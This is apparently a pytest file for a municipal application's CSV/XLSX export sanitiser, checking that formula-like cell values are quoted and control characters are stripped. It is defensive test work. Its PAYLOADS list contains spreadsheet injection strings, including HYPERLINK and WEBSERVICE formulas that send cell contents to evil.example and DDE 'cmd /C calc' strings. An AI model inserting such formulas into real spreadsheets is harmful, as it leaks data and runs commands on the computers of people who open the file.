"""One rule for CSV and XLSX cells: no formula, no character XML forbids."""

from comune.istanze.exports.cells import csv_text
from comune.istanze.exports.cells import safe_cell
from comune.istanze.exports.cells import xlsx_bytes
from decimal import Decimal

import csv
import io
import openpyxl
import pytest


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",  # full-width equals sign
    "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_quoted(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Via Roma 1", "Mario Rossi", "1.000,00", "a=b", "RSSMRA80A01Z999Y",
                                   "Perché sì", "", "x-y", "e-mail@example.org"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-12", "-12,50", "+3", "-1.000,00", "-0.5"])
def test_plain_numbers_in_text_stay_readable(value):
    assert safe_cell(value) == value
    assert safe_cell(value + "\n000") == "'" + value + "\n000"  # a line break ends the number


@pytest.mark.parametrize("value", [-5, -12.5, Decimal("-3.20"), 0, 7])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_illegal_characters_removed_and_none_empty():
    assert safe_cell("a\x07b\x00c\x1bd\ud800e") == "abcde"
    assert safe_cell("riga 1\nriga 2\ttab") == "riga 1\nriga 2\ttab"
    assert safe_cell("\x07=1+1") == "'=1+1"  # the control character does not hide the formula
    assert safe_cell(None) == "" and safe_cell(True) == "True"


def _table():
    header = ["Numero", "Risposta", "Importo"]
    rows = [[f"N{i}", payload, -i] for i, payload in enumerate(PAYLOADS + ["a\x07b", "Niccolò ✓ 日本"])]
    return header, rows


def test_csv_opened_with_csv_module():
    header, rows = _table()
    text = csv_text(header, rows, delimiter=";")
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert read[0] == header
    for row, original in zip(read[1:], rows):
        payload = original[1]
        expected = "ab" if payload == "a\x07b" else payload if payload.startswith("Nicc") else "'" + payload
        assert row[1] == expected
        assert row[2] == str(original[2])


def test_xlsx_opened_with_openpyxl_has_text_not_formulas():
    header, rows = _table()
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(header, rows, title="Istanze"))).active
    cells = list(sheet.iter_rows(min_row=2))
    assert all(c[1].data_type == "s" for c in cells)  # never "f" (formula)
    values = [c[1].value for c in cells]
    assert values[0] == "'" + PAYLOADS[0] and values[-2] == "ab" and values[-1] == "Niccolò ✓ 日本"
    assert [c[2].value for c in cells][:3] == [0, -1, -2]  # amounts stay numbers
    assert all(c[2].data_type == "n" for c in cells)
